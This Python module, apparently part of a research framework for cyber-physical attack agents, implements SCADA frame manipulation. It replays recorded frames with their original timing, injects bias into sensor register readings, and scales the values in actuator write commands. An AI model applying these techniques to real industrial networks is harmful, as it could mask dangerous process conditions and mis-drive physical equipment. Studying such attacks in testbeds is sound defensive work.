"""
Attack payload manipulation
Replay buffer and register rewrites for SCADA frames
"""

import logging
from dataclasses import replace
from typing import List, Optional, Sequence, Tuple

import numpy as np

from errors import FrameDecodeError, ScadaEncodingError
from cps_agents.scada_agents.scada_tools import (
    FunctionKind,
    RegisterCodec,
    ScadaFrame,
    decode_frame,
    encode_frame,
    pack_measurement,
    unpack_measurement,
)

logger = logging.getLogger(__name__)


class ReplayBuffer:
    """
    Recorded frames in arrival order with their inter-arrival gaps

    Playback cycles through the recording. A frame is due once the time
    since the previous replayed frame reaches its recorded gap, less half
    the typical gap of jitter, so holes in the recording stay holes in the
    replay.
    """

    def __init__(self):
        self.frames: List[ScadaFrame] = []
        self.gaps_us: List[int] = []
        self._last_at: Optional[int] = None
        self._last_played: Optional[int] = None
        self._typical: Optional[int] = None
        self._cursor = 0

    def __len__(self) -> int:
        return len(self.frames)

    def record(self, frame: ScadaFrame, at: int) -> None:
        self.gaps_us.append(0 if self._last_at is None else at - self._last_at)
        self._last_at = at
        self._typical = None
        self.frames.append(frame)

    @property
    def typical_gap_us(self) -> int:
        """Median recorded gap; also the gap used when playback wraps around"""
        if self._typical is None:
            spaced = [gap for gap in self.gaps_us[1:] if gap > 0]
            self._typical = int(np.median(spaced)) if spaced else 0
        return self._typical

    def gap_before(self, index: int) -> int:
        return self.gaps_us[index] if index > 0 else self.typical_gap_us

    def next_frame(self, now: int) -> Optional[ScadaFrame]:
        """The frame to play at `now`; None when the recording is empty or has nothing due yet"""
        if not self.frames:
            return None
        if self._last_played is not None:
            due_after = self.gap_before(self._cursor) - self.typical_gap_us // 2
            if now - self._last_played < due_after:
                return None
        frame = self.frames[self._cursor]
        self._cursor = (self._cursor + 1) % len(self.frames)
        self._last_played = now
        return frame

    @property
    def cursor(self) -> int:
        return self._cursor


def restamp(frame: ScadaFrame, transaction_id: int) -> ScadaFrame:
    return replace(frame, transaction_id=transaction_id & 0xFFFF)


def _rewrite_registers(payload: bytes, function: FunctionKind, codec: RegisterCodec,
                       transform) -> Tuple[bytes, bool, bool]:
    """
    Decode, transform the register values and re-encode

    Returns:
        (payload, changed, clamped); undecodable or foreign frames pass through unchanged
    """
    try:
        frame = decode_frame(payload)
    except FrameDecodeError:
        return payload, False, False
    if frame.function is not function:
        return payload, False, False
    try:
        values = unpack_measurement(frame.register_values, codec)
    except ScadaEncodingError:
        return payload, False, False

    rewritten = np.atleast_1d(transform(values))
    clamped = False
    bounded = []
    for value in rewritten:
        value, moved = codec.clamp(value)
        clamped = clamped or moved
        bounded.append(value)
    registers = tuple(pack_measurement(bounded, codec))
    if registers == tuple(frame.register_values):
        return payload, False, clamped
    return encode_frame(replace(frame, register_values=registers)), True, clamped


def inject_bias(payload: bytes, bias: Sequence[float], codec: RegisterCodec) -> Tuple[bytes, bool, bool]:
    """Add a bias vector to the values of a ReadHoldingRegistersResponse"""
    offset = np.asarray(bias, dtype=float)

    def add(values: np.ndarray) -> np.ndarray:
        if offset.size not in (1, values.size):
            return values
        return values + offset

    return _rewrite_registers(payload, FunctionKind.READ_HOLDING_RESPONSE, codec, add)


def scale_actuation(payload: bytes, gain: float, codec: RegisterCodec) -> Tuple[bytes, bool, bool]:
    """Multiply the commanded values of a WriteMultipleRegistersRequest"""
    return _rewrite_registers(payload, FunctionKind.WRITE_MULTIPLE_REQUEST, codec, lambda values: values * gain)


def live_transaction_id(payload: bytes) -> Optional[int]:
    try:
        return decode_frame(payload).transaction_id
    except FrameDecodeError:
        return None
